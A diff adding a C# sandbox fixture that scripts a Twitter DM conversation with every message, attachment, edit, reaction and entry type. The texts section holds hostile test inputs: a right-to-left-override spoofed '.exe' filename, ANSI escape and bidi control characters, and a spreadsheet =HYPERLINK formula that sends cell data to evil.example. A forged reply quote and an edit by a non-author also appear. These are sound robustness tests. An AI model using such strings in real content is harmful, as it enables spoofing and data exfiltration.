@@ -1,0 +1,111 @@
+using TwitterDm.ChatProtocol;
+using TwitterDm.ChatProtocol.Thrift;
+using TwitterDm.Sandbox.Chat.Events;
+using TwitterDm.Sandbox.Model;
+
+namespace TwitterDm.Sandbox.Chat.Stories;
+
+/// <summary>A one-to-one conversation with every kind of message and entry.</summary>
+internal static class EverythingStory
+{
+    private const short FutureEntry = 99;
+    private const short FutureEvent = 98;
+
+    public static ConversationPlan With(Person account, Person other, int messages) =>
+        OneToOneStories.Plan(account, other, newestMinutes: 11, spanDays: 21) with
+        {
+            Steps = Story.With(
+                messages,
+                [
+                    builder => builder.ChangeKey(other),
+                    .. Texts(account, other),
+                    .. Attachments(account, other),
+                    .. Replies(account, other),
+                    .. Changes(account, other),
+                    .. Entries(account, other),
+                    .. Events(account, other),
+                ]),
+        };
+
+    private static IEnumerable<Action<ConversationBuilder>> Texts(Person account, Person other) =>
+    [
+        // The umlauts make offsets in bytes, in characters and in code points different.
+        builder => builder.Say(other, $"Grüße, @{account.Username}! Übersicht 📈: https://status.example.com/dashboard#today #betrieb"),
+        builder => builder.Say(other, "The file is invoice\u202Efdp.exe \u001B[31mopen it\u001B[0m \u2067now\u2069\u0007"),
+        builder => builder.Say(other, "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click me\")"),
+        builder => builder.Forward(account, "FYI, from the vendor: maintenance on Sunday, see https://vendor.example.com/notice #maintenance"),
+    ];
+
+    private static IEnumerable<Action<ConversationBuilder>> Attachments(Person account, Person other) =>
+    [
+        builder => builder.Attach(other, "The new rack", ChatAttachments.Photo),
+        builder => builder.Attach(other, ChatText.Empty, ChatAttachments.AnimatedGif),
+        builder => builder.Attach(account, "Listen to that fan", ChatAttachments.Clip),
+        builder => builder.Attach(other, ChatText.Empty, ChatAttachments.VoiceNote),
+        builder => builder.Attach(account, "As promised", ChatAttachments.Document),
+        builder => builder.Attach(
+            other,
+            "https://blog.example.com/2026/postmortem",
+            draw => ChatAttachments.Card(draw, "https://blog.example.com/2026/postmortem", "Postmortem: what the pager did not say")),
+        builder => builder.Say(other, "Have you seen this one?", ChatAttachments.PostOf(SamplePosts.All[2])),
+    ];
+
+    private static IEnumerable<Action<ConversationBuilder>> Replies(Person account, Person other)
+    {
+        SentChatEvent? question = null;
+        return
+        [
+            builder => question = builder.Say(other, "Shall we move the database on Friday?"),
+            builder => builder.Reply(account, question!, "Not on a Friday, please."),
+            builder => builder.Reply(other, question!, "You said yes!", claimedText: "Yes, I agree to everything."),
+            builder => builder.Reply(account, question!, "Monday, then.", provesQuote: false),
+        ];
+    }
+
+    private static IEnumerable<Action<ConversationBuilder>> Changes(Person account, Person other)
+    {
+        SentChatEvent? own = null;
+        SentChatEvent? theirs = null;
+        SentChatEvent? mistake = null;
+        return
+        [
+            builder => own = builder.Say(account, "The window is from 22:00 to 23:00."),
+            builder => builder.Edit(account, own!, "The window is from 22:00 to 24:00, see https://wiki.example.com/windows"),
+            builder => builder.Edit(other, own!, "The window is open all night."),
+            builder => theirs = builder.Say(other, "We open at 9."),
+            builder => builder.React(account, theirs!, "\U0001F44D"),
+            builder => builder.React(account, theirs!, "\u2764\uFE0F"),
+            builder => builder.Unreact(account, theirs!, "\U0001F44D"),
+            builder => mistake = builder.Say(other, "Wrong window, sorry."),
+            builder => builder.Delete(other, forAll: true, mistake!),
+            builder => builder.Delete(other, forAll: true, own!),
+            builder => builder.Delete(account, forAll: false, theirs!),
+        ];
+    }
+
+    private static IEnumerable<Action<ConversationBuilder>> Entries(Person account, Person other) =>
+    [
+        builder => builder.Entry(other, ChatEntryKind.AVCallStarted, new ThriftStruct().AddBool(1, false).Add(3, "b-17")),
+        builder => builder.Entry(other, ChatEntryKind.AVCallEnded, new ThriftStruct().AddI64(1, builder.Milliseconds).AddI64(2, 754).AddBool(3, false)),
+        builder => builder.Entry(account, ChatEntryKind.AVCallMissed, new ThriftStruct().AddI64(1, builder.Milliseconds).AddBool(2, true)),
+        builder => builder.Entry(account, ChatEntryKind.NicknameMessage, new ThriftStruct().AddI64(1, other.Id).Add(2, "Zoë from networks")),
+        builder => builder.Entry(other, ChatEntryKind.ScreenCaptureDetected, new ThriftStruct().AddI32(1, 1)),
+        builder => builder.Entry(account, ChatEntryKind.PinConversation, new ThriftStruct().Add(1, builder.SignedId)),
+        builder => builder.Entry(account, ChatEntryKind.UnpinConversation, new ThriftStruct().Add(1, builder.SignedId)),
+        builder => builder.Entry(account, ChatEntryKind.SetVerifiedStatus, new ThriftStruct().AddI64(1, other.Id).AddBool(2, true)),
+        builder => builder.Entry(account, ChatEntryKind.AcceptMessageRequest, new ThriftStruct()),
+        builder => builder.Entry(other, FutureEntry, new ThriftStruct().Add(1, "A kind of entry that does not exist yet")),
+    ];
+
+    private static IEnumerable<Action<ConversationBuilder>> Events(Person account, Person other)
+    {
+        SentChatEvent? last = null;
+        return
+        [
+            builder => builder.Type(other),
+            builder => last = builder.Say(other, "Good night \U0001F319"),
+            builder => builder.MarkRead(account, last!),
+            builder => builder.AddUnknown(other, FutureEvent),
+        ];
+    }
+}
